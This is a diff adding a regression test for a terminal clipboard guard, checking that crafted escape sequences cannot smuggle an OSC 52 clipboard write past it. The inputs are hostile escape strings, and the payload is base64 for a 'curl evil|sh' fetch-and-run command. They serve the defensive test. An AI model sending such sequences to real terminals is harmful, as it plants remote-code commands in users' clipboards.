@@ -50,6 +50,28 @@ test('a dropped string leaves the terminal where it was before it: no DCS after 
   }
 })
 
+test('an OSC written up to the ESC that ended it is closed, whatever becomes of that ESC: no OSC 52 from the text after a dropped one', () => {
+  // Found by gperf37 (on main too): ESC ]0 ended by the ESC of ESC ]52;c;x BEL was written, the
+  // ESC dropped with the string it began, and the text after it read as the number's digits:
+  // kitty, Windows Terminal and xterm took ESC ]052;c;<base64> BEL for OSC 52.
+  const payload = 'c;Y3VybCBldmlsfHNo\x07'
+  for (const input of [
+    '\x1b]0\x1b]52;c;x\x0752;' + payload,
+    '\x1b]0\x1b_Ga=T\x1b\\52;' + payload,
+    '\x1b]0\x1bP@kitty-cmd\x1b\\52;' + payload,
+    '\x1b]\x1b\x1b]52;c;x\x07[52;' + payload,
+    '\x1b]\x1b\x9f_x\x0752;' + payload,
+    '\x1b]\x1b\x00\x9fX\x07\xe2\x0052;' + payload,
+  ]) {
+    const bytes = Buffer.from(input, 'latin1')
+    for (let cut = 0; cut <= bytes.length; cut++) {
+      const g = new ClipboardGuard()
+      const out = Buffer.concat([g.filter(bytes.subarray(0, cut)), g.filter(bytes.subarray(cut))])
+      assert.deepEqual(dispatched(out), [], `${bytes.toString('hex')} cut at ${cut} -> ${out.toString('hex')}`)
+    }
+  }
+})
+
 test('random output through the guard, cut once, makes no modelled terminal dispatch a dropped string (xorshift32)', () => {
   const alphabet = [0x1b, 0x1b, 0x5b, 0x28, 0x6d, 0x58, 0x9b, 0xc3, 0xa9, 0x5d, 0x5f, 0x50, 0x35, 0x32, 0x30, 0x31, 0x33, 0x37, 0x3b, 0x63, 0x58, 0x5c, 0x07, 0x00, 0x18, 0x9d, 0x9c, 0x9f, 0x90, 0xc2, 0xe2, 0x80, 0x41, 0x98, 0x9e]
   for (const start of [7, 8]) {
